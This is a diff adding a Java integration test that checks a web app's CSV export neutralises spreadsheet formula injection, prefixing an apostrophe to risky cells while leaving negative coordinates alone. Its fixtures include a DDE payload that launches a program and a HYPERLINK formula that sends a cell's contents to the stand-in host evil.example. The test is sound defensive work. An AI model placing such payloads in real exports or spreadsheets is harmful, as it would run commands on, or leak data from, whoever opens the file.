@@ -162,6 +162,32 @@ class AgreementViewsIT {
 			.containsPattern("<th scope=\"row\">Active</th><td>2</td>");
 	}
 
+	/**
+	 * A spreadsheet runs a cell that begins with =, +, -, @, a tab or a carriage return as a
+	 * formula: such text cells get a leading apostrophe (OWASP's advice), numbers keep their sign.
+	 */
+	@Test
+	void csvCellsThatASpreadsheetWouldRunAsFormulasAreNeutralisedButNegativeCoordinatesAreNot() throws Exception {
+		long west = place(4, "+cmd|' /C calc'!A0", "MN", 47.0, -3.25);
+		agreement("=HYPERLINK(\"http://evil.example/?x=\"&B2,\"Open\")", west, this.ulaanbaatar, "2010-01-01");
+		agreement("@SUM(1+1)", west, this.nis, "2011-01-01");
+		agreement("-2+3", west, this.ghent, "2012-01-01");
+		HttpResponse<String> response = get("/agreements.csv?municipality=" + west);
+		try (CSVParser csv = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get()
+			.parse(new StringReader(response.body()))) {
+			List<CSVRecord> rows = csv.getRecords();
+			assertThat(rows).extracting(r -> r.get("title"))
+				.containsExactly("'=HYPERLINK(\"http://evil.example/?x=\"&B2,\"Open\")", "'@SUM(1+1)", "'-2+3");
+			assertThat(rows).allSatisfy(row -> {
+				String westName = row.get("party_a_name").startsWith("'") ? row.get("party_a_name") : row.get("party_b_name");
+				assertThat(westName).isEqualTo("'+cmd|' /C calc'!A0");
+				String westLongitude = row.get("party_a_name").startsWith("'") ? row.get("party_a_longitude")
+						: row.get("party_b_longitude");
+				assertThat(westLongitude).isEqualTo("-3.25000");
+			});
+		}
+	}
+
 	@Test
 	void theCsvFileHasItsDocumentedColumnsAndEscapesCommasQuotesAndNewlines() throws Exception {
 		HttpResponse<String> response = get("/agreements.csv?municipality=" + this.ulaanbaatar);
